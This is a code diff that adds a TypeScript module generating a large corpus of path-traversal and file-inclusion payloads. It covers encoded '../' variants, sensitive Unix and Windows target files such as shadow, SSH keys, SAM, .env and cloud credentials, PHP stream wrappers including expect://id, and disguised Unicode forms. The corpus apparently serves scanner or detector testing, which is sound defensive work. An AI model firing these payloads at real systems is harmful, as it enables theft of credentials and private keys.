@@ -1,0 +1,24 @@
+import { combine, family, fullWidth, held, spread, zeroWidth, type Family } from './corpus.js';
+
+const steps = ['../', '..\\', '..%2f', '..%5c', '%2e%2e%2f', '%2e%2e/', '%2e%2e%5c', '..%252f', '%252e%252e%252f', '..%255c', '..%c0%af', '..%c1%9c', '%c0%ae%c0%ae/', '..%u2215', '..%u2216', '%uff0e%uff0e%u2215', '..0x2f', '0x2e0x2e/', '..%00/', '..;/', '....//', '....\\\\', '.../', '..././', '...\\.\\', '..//', '..\\/', '..%e0%80%af', '..%25c0%25af', '%2e%2e%c0%af', '..%%32%66', '..%bg%qf', '/..', '\\..', '/%5c..', '.%00./'];
+const unix = ['etc/passwd', 'etc/shadow', 'etc/hosts', 'etc/issue', 'proc/self/environ', 'var/log/apache2/access.log', 'root/.ssh/id_rsa', 'home/joe/.bash_history'];
+const windows = ['windows/win.ini', 'boot.ini', 'windows\\system32\\drivers\\etc\\hosts', 'winnt/system32/cmd.exe', 'inetpub\\wwwroot\\web.config'];
+
+const climbs = combine(['{0}{0}{1}', '{0}{0}{0}{1}', '{0}{0}{0}{0}{0}{0}{1}', '/{0}{0}{0}{0}{1}', 'images/{0}{0}{0}{1}', '{0}{0}{0}{1}%00', '{0}{0}{0}{0}{0}{0}{0}{0}{1}%00.jpg', 'file={0}{0}{0}{1}', '{0}{0}{0}{0}{0}', '/static/{0}{0}{0}{1}?a=1'], steps, [...unix, ...windows, 'app.conf']);
+
+const files = combine(
+  ['{0}', '{0}%00', '{0}%00.html', 'file://{0}', '{0}?', 'page={0}', '/..{0}'],
+  ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/hosts', '/etc/crontab', '/etc/ssh/sshd_config', '/etc/apache2/apache2.conf', '/etc/mysql/my.cnf', '/etc/php.ini', '/etc/nginx/nginx.conf', '/etc/fstab', '/etc/sudoers', '/proc/self/environ', '/proc/version', '/proc/self/cmdline', '/proc/1/maps', '/proc/self/fd/3', '/var/log/apache/error.log', '/var/log/apache2/access.log', '/var/log/nginx/error.log', '/var/log/auth.log', '/var/log/syslog', '/var/log/httpd/error_log', '/var/mail/root', '/var/www/html/config.php', '/root/.bash_history', '/root/.ssh/id_rsa', '/home/ann/.ssh/authorized_keys', '/usr/local/apache2/conf/httpd.conf', '/opt/lampp/etc/httpd.conf', '/usr/local/etc/php.ini', '/var/lib/mysql/my.cnf'],
+);
+
+const windowsFiles = combine(['{0}', 'file:///{0}', '{0}%00'], ['C:\\boot.ini', 'c:/boot.ini', 'C:\\Windows\\win.ini', 'C:/WINDOWS/System32/drivers/etc/hosts', 'c:\\windows\\repair\\sam', 'C:\\inetpub\\logs\\LogFiles\\x.log', 'c:\\xampp\\apache\\logs\\access.log', 'C:\\Program Files\\MySQL\\my.ini', 'c:\\apache\\conf\\httpd.conf', 'D:\\autoexec.bat', 'c:\\windows\\php.ini', '%WINDIR%\\win.ini', '%SYSTEMROOT%\\repair\\system', 'C:\\Users\\Administrator\\NTUser.dat', 'c:\\unattend.xml', '\\\\fileserver\\c$\\secret', '\\\\10.0.0.7\\share\\x.exe', '\\\\localhost\\admin$', '\\\\?\\C:\\x', '\\\\.\\globalroot\\device']);
+
+const wrappers = ['php://filter/convert.base64-encode/resource=index.php', 'php://filter/read=string.rot13/resource=config', 'php://input', 'php://fd/3', 'pHp://FilTer/convert.base64-encode/resource=x', 'expect://id', 'expect://ls', 'zip://shell.jpg%23payload.php', 'zip://x.zip#a.php', 'phar://x.phar/a.php', 'data://text/plain;base64,PD9waHAgcGhwaW5mbygpOw==', 'data:text/plain,<?php phpinfo(); ?>', 'compress.zlib:///etc/passwd', 'glob:///etc/*', 'file:///c:/windows/win.ini', 'file:///proc/self/maps', 'file://localhost/etc/hosts', 'file:/etc/passwd', 'jar:file:///x.jar!/', 'netdoc:///etc/hosts', 'php%3a%2f%2ffilter/resource=a', 'ogg://x', 'rar://a.rar#b', 'ssh2.exec://u:p@h/id', 'input_file://x'].slice(0, 23);
+
+const names = ['.htaccess', '/.htpasswd', '/.git/config', '.git/HEAD', '/.env', '.env', '/.svn/entries', '/.ssh/id_rsa', '~/.ssh/id_dsa', '~/.bash_history', '/WEB-INF/web.xml', '..%2fWEB-INF%2fweb.xml', 'WEB-INF/web.xml', '/web.config', '/wp-config.php', '/wp-config.php.bak', '/.aws/credentials', '~/.aws/credentials', '/.docker/config.json', '/.kube/config', '/.npmrc', '/.bash_history', '/.mysql_history', '/.DS_Store', '/META-INF/MANIFEST.MF', '/admin/..;/manager/html', '/..;/', '/%2e/admin', '/.%2e/x', '//etc//passwd', '/./././etc/passwd', '/etc/./passwd', '///etc/passwd', '\\etc\\passwd', '/etc%2fpasswd', '%2fetc%2fpasswd', '%252fetc%252fpasswd', '/etc/passwd#', 'etc/passwd%00', '|/etc/passwd', '<!--#include file="/etc/passwd"-->', '/cgi-bin/../../../bin/sh', '../../../../../../../../../../dev/null%00', '../%2a', '..\\..\\..\\*', '.../.../.../x', '.\\..\\.\\..\\boot.ini', 'x/../../../../y', '..%01/..%01/', '%3f/../../../secret', '/%c0%ae%c0%ae/%c0%ae%c0%ae/x', '%25%32%65%25%32%65%25%32%66', '/../../../../../../../../../../%2A', '../../../../../../conf/server.xml', '%00../../../etc', '..%c0%2f', '%c0%2e%c0%2e%c0%2f', '..%fc%80%80%80%80%af', '%f0%80%80%af..'];
+
+/** Paths that climb, in the spellings that scanners try, and files worth reading. */
+export const pathAttacks: readonly Family[] = [
+  family('climb', spread(climbs, 700)), held('climb again', spread(climbs.slice(3), 331)), family('files', files), held('windows', windowsFiles), family('wrappers', wrappers), held('names', names),
+  family('disguised', [fullWidth, zeroWidth].flatMap((how) => spread(climbs.filter((text) => !text.includes('%')), 40).map(how))),
+];
